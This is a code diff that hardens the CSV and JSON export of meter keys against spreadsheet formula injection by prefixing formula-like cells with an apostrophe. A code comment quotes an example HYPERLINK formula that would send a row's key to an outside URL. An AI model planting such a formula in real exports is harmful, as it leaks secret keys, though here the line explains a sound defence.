@@ -131,14 +131,23 @@ def _readme(
     return "\r\n".join(lines)
 
 
+# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets
+# (OWASP "CSV injection"): =HYPERLINK("http://…?"&E2) would send the row's key away.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
 def _csv_cell(value: str) -> str:
-    """A CSV field, quoted only when it must be; letters and digits alone never need it."""
+    """Every keys.csv cell goes through here: quoted only when it must be, and text a
+    spreadsheet would run as a formula gets a leading apostrophe. Letters and digits alone
+    (serials, most order numbers, key names and hex) need neither."""
     return value if value.isalnum() else _quoted_csv_cell(value)
 
 
 @lru_cache(maxsize=4096)
 def _quoted_csv_cell(value: str) -> str:
-    """Types repeat from row to row: cached."""
+    """The slow path (types repeat from row to row: cached)."""
+    if value.startswith(FORMULA_START):
+        value = "'" + value
     if any(char in value for char in ',"\r\n') or value != value.strip():
         return '"' + value.replace('"', '""') + '"'
     return value
@@ -214,8 +223,10 @@ def _zip_chunks(plain_keys: PlainKeys, password: str, write_meter_files: bool) -
                 key_json = []
                 for name, key in plain.items():
                     key_hex = key.hex().upper()
-                    csv_lines.append(f"{serial_csv},{row_middle},{name},{key_hex}\r\n")
-                    key_json.append(f'"{name}": "{key_hex}"')
+                    csv_lines.append(
+                        f"{serial_csv},{row_middle},{_csv_cell(name)},{_csv_cell(key_hex)}\r\n"
+                    )
+                    key_json.append(f'{_json_string(name)}: "{key_hex}"')
                     keys += 1
                 serial_json = _json_string(serial)
                 json_parts.append(
